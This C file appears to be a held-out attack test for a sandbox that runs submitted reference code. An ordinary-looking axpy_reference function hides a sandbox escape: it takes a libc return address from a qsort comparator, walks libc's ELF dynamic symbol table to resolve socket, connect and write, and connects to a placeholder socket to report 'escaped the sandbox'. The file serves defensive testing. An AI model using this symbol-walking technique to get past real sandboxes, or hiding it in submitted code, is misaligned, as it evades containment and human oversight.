/* attack (was holes/ref-elf-walk-unix-socket.c, issue 15 H2): a reference reaches socket() and
 * connect() from a qsort comparator's return address and connects to @SOCKET@ outside. Refused by
 * the host subset (an integer turned into a pointer); were it run, the reference program runs
 * without the GPU and its sandbox refuses every socket (attacks_heldout.t 3b, test_sandbox). */
#include <stdlib.h>
// The walk, in pure C with no symbol at all: from an address in libc (a return address into libc,
// taken in a callback libc makes: an atexit handler, a qsort comparator) back to libc's ELF
// header, through its dynamic symbol table to any function (system, socket, ...).
typedef struct {
    unsigned char id[16];
    unsigned short type, machine;
    unsigned version;
    unsigned long entry, phoff, shoff;
    unsigned flags;
    unsigned short ehsize, phentsize, phnum, shentsize, shnum, shstrndx;
} walk_ehdr;
typedef struct {
    unsigned type, flags;
    unsigned long offset, vaddr, paddr, filesz, memsz, align;
} walk_phdr;
typedef struct {
    long tag;
    unsigned long val;
} walk_dyn;
typedef struct {
    unsigned name;
    unsigned char info, other;
    unsigned short shndx;
    unsigned long value, size;
} walk_sym;
static void *walk_in(unsigned long p, const char *want)
{
    p &= ~4095ul;
    while (!(((unsigned char *)p)[0] == 0x7f && ((unsigned char *)p)[1] == 'E' &&
             ((unsigned char *)p)[2] == 'L' && ((unsigned char *)p)[3] == 'F'))
        p -= 4096;
    walk_ehdr *eh = (walk_ehdr *)p;
    walk_phdr *ph = (walk_phdr *)(p + eh->phoff);
    walk_dyn *dyn = 0;
    for (int i = 0; i < eh->phnum; i++)
        if (ph[i].type == 2)
            dyn = (walk_dyn *)(p + ph[i].vaddr);
    walk_sym *sym = 0;
    const char *str = 0;
    for (; dyn && dyn->tag; dyn++) {
        unsigned long v = dyn->val < p ? dyn->val + p : dyn->val;
        if (dyn->tag == 6)
            sym = (walk_sym *)v;
        if (dyn->tag == 5)
            str = (const char *)v;
    }
    for (walk_sym *s = sym; s && (const char *)s < str; s++) {
        const char *n = str + s->name;
        int k = 0;
        while (want[k] && n[k] == want[k])
            k++;
        if (!want[k] && !n[k] && s->value)
            return (void *)(p + s->value);
    }
    return 0;
}
static unsigned long in_libc;
static int cmp(const void *a, const void *b)
{
    in_libc = (unsigned long)__builtin_return_address(0);
    return *(const int *)a - *(const int *)b;
}
void axpy_reference(int n, float a, const float *x, float *y)
{
    int two[2] = {2, 1};
    qsort(two, 2, sizeof two[0], cmp);
    int (*sock)(int, int, int) = (int (*)(int, int, int))walk_in(in_libc, "socket");
    int (*conn)(int, const void *, unsigned) =
        (int (*)(int, const void *, unsigned))walk_in(in_libc, "connect");
    long (*wr)(int, const void *, unsigned long) =
        (long (*)(int, const void *, unsigned long))walk_in(in_libc, "write");
    struct {
        unsigned short family;
        char path[108];
    } addr = {1, "@SOCKET@"};
    int s = sock && conn && wr ? sock(1, 1, 0) : -1;
    if (s >= 0 && conn(s, &addr, sizeof addr) == 0)
        wr(s, "escaped the sandbox\n", 20);
    for (int i = 0; i < n; i++)
        y[i] = a * x[i] + y[i];
}
